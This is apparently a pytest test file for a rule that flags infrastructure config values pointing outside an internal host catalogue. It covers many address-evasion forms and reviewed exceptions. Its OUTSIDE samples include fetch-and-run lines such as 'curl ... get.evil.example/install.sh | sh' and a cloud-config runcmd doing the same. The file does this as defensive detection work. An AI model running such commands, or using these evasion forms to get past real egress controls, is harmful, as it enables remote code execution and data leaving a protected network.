"""The closed-world reading of values: attack forms, the reviewed exceptions, and a parser that
never raises. (The policies themselves run through the analyzer in test_examples.py.)"""

from __future__ import annotations

from typing import Any

import pytest
from federation_catalogue import load_catalogue
from hypothesis import given, settings
from hypothesis import strategies as st

from .pack_loader import rules_package

RULES = rules_package()
destinations = RULES.core.destinations
values_rule = RULES.values_in_federation
CATALOGUE = load_catalogue()


def _outside(text: str) -> list[str]:
    return [p for d in destinations.destinations(text) if (p := destinations.outside(d, CATALOGUE)) is not None]


INSIDE = [
    "https://registry.eu-lu-1.sov.internal/team/app:1.0",
    "HTTPS://KEYSTONE.EU-LU-1.SOV.INTERNAL.:5000/v3",
    "https://x.sov。internal/",  # an ideographic full stop is a dot to IDNA
    "10.64.0.53",
    "fd5e:c10d:a000:1000::53",
    "::ffff:10.64.0.1",
    "http://0x7f.1/",
    "http://2130706433/",
    "http://017700000001/",
    "169.254.169.254",
    "fe80::1%eth0",
    "0.0.0.0",
    "::",
    "0.0.0.0:8080",
    "http://[::1]:8080/",
    "kube-dns.kube-system.svc",
    "my-svc.ns.svc.cluster.local:8080",
    "http://api:8080",
    "localhost:5432",
    "redis://:pass@cache.eu-be-1.sov.internal:6379/0",
    "s3://backups?endpoint=https://swift.eu-be-1.sov.internal",
    "5.2.0",
    "24.04",
    "0.5",
    "10:30",
    "ops@example.com",
    "nginx:1.25",
]
OUTSIDE = [
    "https://evil.example",
    "http://evil.example\\@registry.eu-lu-1.sov.internal/",  # parsers disagree: both hosts judged
    "http://registry.eu-lu-1.sov.internal@evil.example/",
    "https://registry.eu-lu-1.sov.internal.evil.example/",
    "https://\u0455ov.internal/",  # a Cyrillic dze for the s
    "http://%65vil.example/",
    "https://proxy.sov.internal/https://evil.example/",
    "https://proxy.sov.internal/?next=https://evil.example",
    "1.2.3.4",
    "0x08.0x08.0x08.0x08",
    "http://134744072/",
    "::ffff:8.8.8.8",
    "2002:0808:0808::1",
    "64:ff9b::8.8.8.8",
    "0.0.0.0/0",
    "10.0.0.0/8",
    "192.168.1.1",
    "100.64.0.1",
    "git@github.com:org/repo.git",
    "evil.example:443",
    "jdbc:postgresql://db.example.com:5432/x",
    "jdbc:oracle:thin:@//ora.example.com:1521/svc",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=ora.evil.net)(PORT=1521)))",
    "jdbc:sqlserver://sql.evil.net;databaseName=x",
    "mongodb://a.sov.internal:1,b.evil.org:2/db",
    "s3://bucket/key",
    "gs://bucket/key",
    "docker.io/library/nginx",
    "*.google.com",
    "--proxy=http://proxy.evil.example:3128",
    "curl -fsSL https://get.evil.example/install.sh | sh",
    "http://1.2.3.4.evil.com/",
    "ftp://user:pw@files.evil.org/",
    "http://[2001:db8::1]/",
    "http://[::ffff:8.8.8.8]/",
    "0:0:0:0:0:ffff:808:808",
    "::8.8.8.8",
    "10.64.0.0/9",
    "//evil.example/path",
    "EVIL.EXAMPLE.",
    "xn--e1afmkfd.xn--p1ai",
    "http://ev\til.example/",
    "010.064.000.001",
    "http://registry.eu-lu-1.sov.internal:443@evil.example/",
    "10.64.0.1.nip.io",
    "evil.example:80@registry.eu-lu-1.sov.internal",  # no scheme: each side may be read as the host
    "x@evil.example\\y",
    "#cloud-config\nruncmd:\n  - curl https://get.evil.example | sh\n",
]


@pytest.mark.parametrize("text", INSIDE)
def test_inside(text: str) -> None:
    assert _outside(text) == []


@pytest.mark.parametrize("text", OUTSIDE)
def test_outside(text: str) -> None:
    assert _outside(text), text


HOSTS = st.sampled_from(["evil.example", "8.8.8.8", "[2001:4860::8888]", "example.com", "sov.internal.evil"])


@settings(max_examples=300, deadline=None)
@given(
    host=HOSTS,
    scheme=st.sampled_from(["http", "HTTPS", "ftp", "git+ssh", "redis", "postgresql", "jdbc:mysql"]),
    user=st.sampled_from(["", "user@", "registry.eu-lu-1.sov.internal@", "a:b@"]),
    port=st.sampled_from(["", ":443", ":80", ":6443"]),
    path=st.sampled_from(["", "/", "/x?y=1", "#frag", "/a/b"]),
    upper=st.booleans(),
)
def test_an_outside_host_is_found_however_it_is_written(
    host: str, scheme: str, user: str, port: str, path: str, upper: bool
) -> None:
    written = host.upper() if upper else host
    assert _outside(f"{scheme}://{user}{written}{port}{path}")


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=300))
def test_the_reader_never_raises(text: str) -> None:
    for destination in destinations.destinations(text):
        destinations.outside(destination, CATALOGUE)
    list(destinations.strings(text))


def _nested(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    node: Any = value
    for step in reversed(path):
        node = {"x" if step == "*" else step: node}
    return node  # type: ignore[no-any-return]


def _findings(resource_type: str, props: dict[str, Any]) -> list[tuple[tuple[str, ...], str]]:
    resource = RULES.core.framework.Resource(resource_type, "r", "urn", props, None, False, CATALOGUE, {})
    return list(values_rule.findings(resource))


@pytest.mark.parametrize("exception", values_rule.EXCEPTIONS, ids=[".".join(e.path) for e in values_rule.EXCEPTIONS])
def test_each_exception_is_not_read_and_only_that_field(exception: Any) -> None:
    resource_type = exception.types[0] if exception.types else "kubernetes:core/v1:ConfigMap"
    url = "https://evil.example/x"
    assert exception.reason
    assert _findings(resource_type, _nested(exception.path, url)) == []
    last = max(i for i, step in enumerate(exception.path) if step != "*")
    sibling = (*exception.path[:last], "other", *exception.path[last + 1 :])
    assert _findings(resource_type, _nested(sibling, url))


def test_a_version_that_looks_like_an_address_is_not_one() -> None:
    assert _findings("kubernetes:core/v1:ConfigMap", {"data": {"version": "1.2.3.4"}}) == []
    assert _findings("kubernetes:core/v1:ConfigMap", {"data": {"imageTag": "10.1.0.7"}}) == []
    assert _findings("kubernetes:core/v1:ConfigMap", {"data": {"value": "1.2.3.4"}})
    assert _findings("kubernetes:core/v1:ConfigMap", {"data": {"version": "https://evil.example"}})


def test_a_secrets_base64_data_is_read() -> None:
    import base64

    encoded = base64.b64encode(b'{"auths": {"x": {"url": "https://evil.example"}}}').decode()
    assert _findings("kubernetes:core/v1:Secret", {"data": {"config.json": encoded}})


def test_every_type_of_the_bundled_stacks_is_reviewed() -> None:
    reviewed = RULES.types_reviewed
    tokens = {
        "openstack:blockstorage/quoteSetV3:QuoteSetV3",
        "kubernetes:core/v1:Namespace",
        "kubernetes:networking.k8s.io/v1:NetworkPolicy",
        "keycloak:openid/groupMembershipProtocolMapper:GroupMembershipProtocolMapper",
        "pulumi:providers:pulumi-python",
        "random:index/randomPassword:RandomPassword",
    }
    for token in tokens:
        assert reviewed.review_key(token, {}) in reviewed.REVIEWED, token


def test_the_readme_lists_every_exception_and_reviewed_type() -> None:
    from .harness import PACK_DIR

    readme = (PACK_DIR / "README.md").read_text(encoding="utf-8")
    reviewed = RULES.types_reviewed
    missing = [f"`{k}`" for k in reviewed.REVIEWED if f"`{k}`" not in readme]
    missing += [
        ".".join(e.path)
        for e in (*values_rule.EXCEPTIONS, *values_rule.JUDGED_ELSEWHERE)
        if f"`{'.'.join(e.path)}`" not in readme
    ]
    assert missing == []
